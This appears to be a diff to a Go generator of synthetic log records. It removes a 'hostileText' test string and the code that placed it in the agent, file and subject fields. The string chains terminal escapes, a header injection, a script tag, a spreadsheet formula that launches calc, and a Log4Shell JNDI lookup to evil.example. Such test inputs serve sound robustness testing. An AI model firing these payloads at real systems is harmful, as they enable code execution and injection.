@@ -146,10 +146,6 @@ func lengthOf(text string) time.Duration {
 // state is what a row has become after so many rewritings.
 func state(r *record, states ...string) string { return states[r.version%len(states)] }
 
-// hostileText, as it stands in JSON, tries a terminal, a log, a header, a page,
-// a spreadsheet, and decoders of text.
-const hostileText = `\u001b[31m\u001b]0;pwned\u0007\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>=cmd|' /C calc'!A0 ${jndi:ldap://evil.example/a} \u202e\u0000\ud83d\ude00`
-
 func quoted(dst []byte, s string) []byte { return append(append(append(dst, '"'), s...), '"') }
 
 func (r *record) port() uint64 { return 49152 + mix(r.seed^0x9047)%16000 }
@@ -198,13 +194,8 @@ var plain = map[string]filler{
 	"deviceid":   text(func(r *record) string { return r.user.deviceID }),
 	"os":         text(func(r *record) string { return r.user.os }),
 	"browser":    text(func(r *record) string { return r.user.browser }),
-	"agent": func(dst []byte, r *record) []byte {
-		if r.hostile {
-			return append(dst, hostileText...)
-		}
-		return append(dst, r.user.agent...)
-	},
-	"asn": text(func(r *record) string { return r.user.asn }),
+	"agent":      text(func(r *record) string { return r.user.agent }),
+	"asn":        text(func(r *record) string { return r.user.asn }),
 
 	"other":     text(func(r *record) string { return r.other.upn }),
 	"othername": text(func(r *record) string { return r.other.name }),
@@ -239,9 +230,6 @@ var plain = map[string]filler{
 	"ipport": func(dst []byte, r *record) []byte { return appendHostPort(dst, r) },
 
 	"file": func(dst []byte, r *record) []byte {
-		if r.hostile {
-			dst = append(dst, hostileText...)
-		}
 		h := mix(r.seed ^ 0xf11e)
 		dst = append(dst, fileNames[h%uint64(len(fileNames))]...)
 		dst = append(dst, ' ')
@@ -262,9 +250,6 @@ var plain = map[string]filler{
 		return appendHex(dst, mix(r.w.seed^mix(r.seed^0x7ea4)%uint64(len(teamNames))), 16)
 	},
 	"subject": func(dst []byte, r *record) []byte {
-		if r.hostile {
-			dst = append(dst, hostileText...)
-		}
 		return append(dst, subjects[mix(r.seed^0x5b9)%uint64(len(subjects))]...)
 	},
 }
